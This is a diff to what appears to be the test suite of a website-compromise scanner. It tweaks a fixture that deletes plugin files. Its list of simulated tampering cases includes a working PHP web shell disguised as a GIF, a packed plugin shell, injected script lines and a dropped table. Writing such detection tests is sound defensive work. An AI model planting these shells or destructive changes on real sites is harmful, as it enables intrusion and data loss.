@@ -231,7 +231,7 @@ def injected(line: str, places: str) -> Callable[[Lab, LabSite], None]:
 
 def deleted(places: str) -> Callable[[Lab, LabSite], None]:
     def make(_: Lab, site: LabSite) -> None:
-        for file in list(content(site).glob(places))[::2]:
+        for file in [path for path in sorted(content(site).glob(places)) if path.is_file()][::2]:
             file.unlink()
 
     return make
@@ -303,7 +303,7 @@ REPORT = (
     Change("a shell in an image", True, shell("uploads/2026/11/logo.gif", "GIF89a<?php system($_GET['c']);")),
     Change("a packed shell as a plugin", True, shell("plugins/wp-cache-x/x.php", DOOR)),
     Change("a quiet line before every script of plugins and themes", True, injected("var s=1;", "[pt]*/**/*.js")),
-    Change("half of the plugins' files deleted", True, deleted("plugins/*/*/*")),
+    Change("half of the plugins' files deleted", True, deleted("plugins/**/*")),
     Change("the site's address changed", True, redirected),
     Change("a table dropped", True, dropped),
 )
